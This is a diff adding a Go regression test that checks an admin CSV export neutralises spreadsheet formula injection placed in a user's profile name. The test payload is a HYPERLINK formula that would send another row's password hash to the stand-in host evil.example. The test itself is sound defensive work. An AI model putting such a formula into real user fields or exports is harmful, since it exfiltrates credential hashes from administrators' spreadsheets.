@@ -2,6 +2,7 @@ package pages_test
 
 import (
 	"bytes"
+	"encoding/csv"
 	"fmt"
 	"mime/multipart"
 	"net/http"
@@ -236,5 +237,46 @@ func TestExportIsAudited(t *testing.T) {
 	}
 	if len(page.Items) != 1 || page.Items[0].ActorName != "root" {
 		t.Fatalf("user.export events: %+v; want one by root", page.Items)
+	}
+}
+
+// TestExportRunsNoFormula replays a user's name set to a spreadsheet
+// formula on their own profile page, then an administrator's CSV export,
+// which holds every user's password hash: the cell was the formula as
+// typed, run by the spreadsheet the administrator opens the file in (a
+// link that sends another row's hash away). It is written with a quote
+// before it, as text, and the export imports back as it was.
+func TestExportRunsNoFormula(t *testing.T) {
+	t.Parallel()
+	b := setup(t)
+	plain := b.browser(t)
+	plain.login(t, "plain", password)
+	plain.get(t, "/account")
+	formula := `=HYPERLINK("https://evil.example/?h="&H3,"Click")`
+	if p := plain.post(t, "/account", url.Values{"name": {formula}, "display_name": {"@" + formula}}); p.status != http.StatusOK {
+		t.Fatalf("the profile: %d\n%s", p.status, p.body)
+	}
+	admin := b.root(t)
+	p := admin.post(t, "/admin/export", url.Values{"format": {"csv"}})
+	if p.status != http.StatusOK {
+		t.Fatalf("export: %d\n%.300s", p.status, p.body)
+	}
+	rows, err := csv.NewReader(strings.NewReader(p.body)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	quoted := 0
+	for _, row := range rows {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("a cell of the export starts a formula: %q", cell)
+			}
+			if cell == "'"+formula || cell == "'@"+formula {
+				quoted++
+			}
+		}
+	}
+	if quoted != 3 { // the name, its first name, the display name
+		t.Fatalf("%d cells hold the quoted formula, want 3\n%s", quoted, p.body)
 	}
 }
